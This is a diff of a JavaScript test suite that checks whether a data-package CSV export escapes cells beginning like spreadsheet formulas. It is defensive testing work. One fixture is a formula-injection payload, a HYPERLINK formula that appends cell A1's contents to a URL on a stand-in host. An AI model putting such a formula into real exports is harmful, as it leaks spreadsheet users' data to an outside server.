@@ -12,7 +12,7 @@ const folder = mkdtempSync(join(tmpdir(), 'export-aman-'));
 const books = join(folder, 'kiriman');
 
 const FORMULA = '=HYPERLINK("http://contoh.test/?"&A1,"klik")';
-const LINES = 'Materi: +62 dan hukum; @umum -butir ;=1+1';
+const LINES = 'Materi: +62 dan hukum; @ab -butir ;=1+1';
 
 beforeAll(async () => {
   mkdirSync(books);
@@ -142,7 +142,7 @@ describe('texts of a data package', () => {
       const { rows, csv, out } = await activitiesOf(`rumus${words.length}`, ...words);
       expect(rows.map((row) => row['judul_kegiatan'])).toEqual([
         `'${FORMULA}`,
-        "Materi: +62 dan hukum; @umum -butir ;'=1+1",
+        "Materi: +62 dan hukum; @ab -butir ;'=1+1",
       ]);
       // Neither with commas nor with semicolons between cells does one begin like a formula; numbers do not change.
       expect(csv).not.toMatch(/(^|[,;\t\r\n])"?[=+@-]/m);
